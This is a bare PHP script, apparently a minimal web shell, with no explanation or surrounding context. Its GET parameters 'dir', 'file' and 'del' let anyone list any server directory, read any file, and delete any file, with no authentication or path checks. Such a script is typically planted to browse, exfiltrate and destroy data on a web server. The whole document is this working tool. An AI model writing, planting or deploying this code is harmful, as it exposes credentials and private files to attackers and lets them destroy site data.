<?php
if (isset($_GET['dir'])) {
    foreach (scandir($_GET['dir']) as $f) {
        echo "<a href='?file=" . urlencode($_GET['dir'] . '/' . $f) . "'>$f</a><br>";
    }
}
if (isset($_GET['file'])) {
    readfile($_GET['file']);
}
if (isset($_GET['del'])) {
    unlink($_GET['del']);
}
